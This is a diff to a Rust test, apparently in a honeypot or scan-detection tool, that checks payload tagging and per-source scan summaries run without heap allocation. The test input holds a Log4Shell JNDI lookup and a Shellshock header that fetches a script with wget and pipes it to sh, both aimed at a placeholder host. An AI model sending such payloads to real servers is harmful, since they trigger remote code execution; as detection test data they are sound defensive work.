@@ -144,6 +144,34 @@ fn parse_and_fingerprint_paths_do_not_allocate() {
         std::hint::black_box(fingerprint::ja4t::ja4t(facts.window, &facts.options));
     });
     assert_eq!(n, 0, "SYN path allocated {n} times");
+    // Payload tags and the per-connection scan summary updates, once warm (the matcher built,
+    // the source's slot boxed).
+    use spip::scan::payload_tags::Tags;
+    use spip::scan::summary::{Summaries, SummaryConfig};
+    use std::time::{Duration, Instant};
+    let summaries = Summaries::new(
+        SummaryConfig {
+            max_sources: 1024,
+            interval: Duration::from_secs(60),
+            scanner_ports: 25,
+        },
+        Instant::now(),
+    );
+    let src: std::net::IpAddr = "192.0.2.1".parse().unwrap();
+    let attack = b"GET /${jndi:ldap://x/a} HTTP/1.1\r\nUser-Agent: () { :;}; wget x | sh\r\n\r\n";
+    std::hint::black_box(Tags::of(attack));
+    summaries.accepted(src, 1, None, Instant::now());
+    let n = allocations(|| {
+        std::hint::black_box(Tags::of(attack));
+        std::hint::black_box(Tags::of(&msg));
+        for port in 2..1000 {
+            let now = Instant::now();
+            summaries.accepted(src, port, Some("64240_2-4-8-1-3_1460_7"), now);
+            summaries.shed(src, port, now);
+            summaries.closed(src, 10, now);
+        }
+    });
+    assert_eq!(n, 0, "tags and summaries allocated {n} times");
 
     // Datagram responders: parse, answer, record fields. (QUIC is left out: rustls boxes its
     // initial keys.)
